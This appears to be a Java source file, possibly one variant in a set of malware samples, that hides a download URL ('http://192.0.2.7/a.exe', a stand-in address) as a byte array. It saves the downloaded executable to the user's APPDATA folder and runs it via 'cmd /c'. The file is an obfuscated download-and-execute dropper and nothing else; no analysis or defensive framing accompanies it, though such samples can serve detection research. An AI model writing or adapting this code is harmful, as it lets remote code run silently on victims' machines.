import java.io.*;
import java.net.*;

/** The same over a loop, helper methods and fields; the address is built of bytes. */
public class DownloadLoop {
    private static final byte[] ADDRESS = {104, 116, 116, 112, 58, 47, 47, 49, 57, 50, 46, 48, 46, 50, 46, 55, 47, 97, 46, 101, 120, 101};
    private File target = new File(System.getenv("APPDATA"), "a.exe");

    private InputStream open(String address) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL(address).openConnection();
        return connection.getInputStream();
    }

    void run() throws IOException {
        InputStream in = open(new String(ADDRESS));
        FileOutputStream out = new FileOutputStream(target);
        byte[] buffer = new byte[4096];
        int read;
        while ((read = in.read(buffer)) > 0) {
            out.write(buffer, 0, read);
        }
        out.close();
        Runtime.getRuntime().exec(new String[] {"cmd", "/c", target.getAbsolutePath()});
    }
}
